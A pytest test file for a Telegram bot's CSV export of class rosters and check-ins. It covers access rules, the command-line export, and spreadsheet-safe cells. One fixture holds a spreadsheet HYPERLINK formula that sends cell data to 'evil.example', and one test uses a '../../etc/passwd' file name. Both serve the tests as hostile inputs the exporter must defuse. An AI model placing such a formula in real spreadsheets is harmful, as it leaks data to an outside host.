"""The CSV export: spreadsheet-safe cells, /export in Telegram (parsed back), who may use it,
and `python bot.py export` from the command line (written files, unknown class, running bot)."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

import bot as bot_module
from reports.csv_export import CHECKIN_COLUMNS, ROSTER_COLUMNS, file_stem, neutralise
from storage.repo import Store
from tests.conftest import BotHarness
from tests.support.says import Key, says
from tests.test_checkin import (
    ANA,
    BEN,
    INSTRUCTOR,
    add_parent,
    answers_to_buttons,
    count,
    keyboard_message,
    seed_class,
)

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Click me")'


def parse(data: bytes) -> list[dict[str, str]]:
    """Read a CSV file back as a spreadsheet would (UTF-8 with its byte-order mark)."""
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana", "Ana"),
        ("3-4", "3-4"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value: object, expected: str) -> None:
    assert neutralise(value) == expected


def test_file_names_are_safe_whatever_the_class_is_called() -> None:
    assert file_stem({"id": "abc", "name": "Café Bébé / Tuesdays"}) == "cafe-bebe-tuesdays"
    assert file_stem({"id": "abc", "name": "👶👶"}) == "class-abc"
    assert file_stem({"id": "abc", "name": "../../etc/passwd"}) == "etc-passwd"


async def seed_export(store: Store) -> dict:
    """A class with two parents, a carer who left, and check-ins (one note is a formula)."""
    klass = await seed_class(store, name="Tuesday babies", parents=((ANA, "Ana"), (BEN, "Ben")))
    await add_parent(store, klass["id"], 45, "Zoë", family_of=ANA)
    await store.update_member(klass["id"], 45, {"active": False})
    await store.save_checkin(
        klass["id"],
        ANA,
        1,
        {"days": "3-4", "response": "loved", "areas": ["legs", "face"], "note": FORMULA},
    )
    await store.save_checkin(
        klass["id"], ANA, 2, {"days": "0", "response": None, "areas": [], "note": None}
    )
    await store.save_checkin(
        klass["id"],
        BEN,
        1,
        {"days": "1-2", "response": "notkeen", "areas": [], "note": "Too cold?", "asked": False},
    )
    return klass


def check_files(roster: bytes, checkins: bytes) -> None:
    """Both files, parsed back: headers, one row per member / check-in, neutralised formula."""
    people = parse(roster)
    assert list(people[0]) == list(ROSTER_COLUMNS)
    assert [(p["first_name"], p["role"], p["status"]) for p in people] == [
        ("Ana", "parent", "active"),
        ("Ben", "parent", "active"),
        ("Zoë", "carer", "left"),
    ]
    assert people[2]["family_of"] == "Ana"
    rows = parse(checkins)
    assert list(rows[0]) == list(CHECKIN_COLUMNS)
    assert [(r["week"], r["first_name"]) for r in rows] == [
        ("1", "Ana"),
        ("1", "Ben"),
        ("2", "Ana"),
    ]
    ana1, ben1, ana2 = rows
    assert ana1["note"] == "'" + FORMULA  # shown as text, never run
    assert (ana1["days_practised"], ana1["baby_response"]) == ("3–4", "Loved it")
    assert ana1["areas"] == "Legs and feet; Face"
    assert ben1["note_is_question"] == "yes" and ana1["note_is_question"] == "no"
    assert (ana2["days_practised"], ana2["baby_response"], ana2["note"]) == ("0", "", "")


async def test_export_sends_the_roster_and_checkins_as_csv(bot: BotHarness) -> None:
    await seed_export(bot.store)
    await bot.say(INSTRUCTOR, "/export")
    docs = [c for c in bot.api.calls if c.method == "sendDocument" and c.chat_id == INSTRUCTOR]
    assert [d.files["document"].filename for d in docs] == [
        "tuesday-babies-roster.csv",
        "tuesday-babies-checkins.csv",
    ]
    check_files(docs[0].files["document"].content, docs[1].files["document"].content)
    assert "Tuesday babies" in docs[0].params["caption"]


async def test_an_instructor_with_two_classes_chooses_which_to_export(bot: BotHarness) -> None:
    await seed_export(bot.store)
    second = await seed_class(bot.store, name="Thursday class", parents=())
    await bot.say(INSTRUCTOR, "/export")
    message_id, buttons = keyboard_message(bot.api, INSTRUCTOR)
    assert len(buttons) == 2 and count(bot.api, "sendDocument", INSTRUCTOR) == 0
    await bot.press(INSTRUCTOR, f"ci:x:{second['id']}", message_id=message_id)
    (edit,) = [c for c in bot.api.calls if c.method == "editMessageText"]
    assert edit.params["message_id"] == message_id and "Thursday class" in edit.text
    docs = [c for c in bot.api.calls if c.method == "sendDocument"]
    assert [d.files["document"].filename for d in docs] == [
        "thursday-class-roster.csv",
        "thursday-class-checkins.csv",
    ]
    assert parse(docs[1].files["document"].content) == []  # a header row only


async def test_a_parent_cannot_export(bot: BotHarness) -> None:
    await seed_export(bot.store)
    await bot.say(ANA, "/export")
    assert says(bot.last_text(ANA), "core.not_allowed", who=Key("core.who_instructor"))
    assert count(bot.api, "sendDocument", ANA) == 0


async def test_another_instructor_cannot_export_my_class(bot: BotHarness) -> None:
    klass = await seed_export(bot.store)
    await seed_class(bot.store, instructor=501, name="Theirs", parents=())
    await bot.press(501, f"ci:x:{klass['id']}")
    assert says(answers_to_buttons(bot.api)[-1], "checkin.not_your_class")
    assert count(bot.api, "sendDocument", 501) == 0


# -- the command line ----------------------------------------------------------------------------


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """DATA_DIR for the command line, run from a folder without a .env file."""
    data = tmp_path / "cli-data"
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("BOT_TOKEN", raising=False)
    monkeypatch.setenv("DATA_DIR", str(data))
    return data


async def seeded_folder(data: Path) -> dict:
    store = Store(data)
    await store.open()
    try:
        return await seed_export(store)
    finally:
        await store.close()


def test_the_command_line_writes_the_same_files(
    cli_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    klass = asyncio.run(seeded_folder(cli_env))
    out = tmp_path / "exports"
    for wanted in (klass["id"], klass["code"]):
        assert bot_module.main(["export", f"--class={wanted}", "--out", str(out)]) == 0
        printed = capsys.readouterr().out.split()
        assert printed == [
            str(out / "tuesday-babies-roster.csv"),
            str(out / "tuesday-babies-checkins.csv"),
        ]
    check_files(
        (out / "tuesday-babies-roster.csv").read_bytes(),
        (out / "tuesday-babies-checkins.csv").read_bytes(),
    )


def test_the_command_line_names_an_unknown_class(
    cli_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    asyncio.run(seeded_folder(cli_env))
    assert bot_module.main(["export", "--class", "nope", "--out", str(tmp_path / "x")]) == 2
    err = capsys.readouterr().err
    assert "No class has the id or join code 'nope'" in err
    assert not (tmp_path / "x").exists()


def test_the_command_line_says_to_stop_a_running_bot(
    cli_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    klass = asyncio.run(seeded_folder(cli_env))
    running = Store(cli_env)  # the bot holds the folder lock while it runs
    asyncio.run(running.open())
    try:
        code = bot_module.main(["export", f"--class={klass['id']}", "--out", str(tmp_path / "x")])
    finally:
        asyncio.run(running.close())
    assert code == 2
    assert "Stop the bot first, or use /export" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()


def test_the_command_line_without_data(
    cli_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert bot_module.main(["export", "--class", "x", "--out", str(tmp_path / "x")]) == 2
    assert "no bot data" in capsys.readouterr().err
    assert not cli_env.exists()  # nothing created where there was nothing


async def test_a_double_tap_on_export_sends_the_files_once(bot: BotHarness) -> None:
    await seed_export(bot.store)
    second = await seed_class(bot.store, name="Thursday class", parents=())
    await bot.say(INSTRUCTOR, "/export")
    message_id, _ = keyboard_message(bot.api, INSTRUCTOR)
    for _ in range(2):  # the second tap lands on the message the first one changed
        await bot.press(INSTRUCTOR, f"ci:x:{second['id']}", message_id=message_id)
    assert count(bot.api, "sendDocument", INSTRUCTOR) == 2  # roster and check-ins, once
    assert all(c.ok for c in bot.api.calls), [c.summary() for c in bot.api.calls if not c.ok]
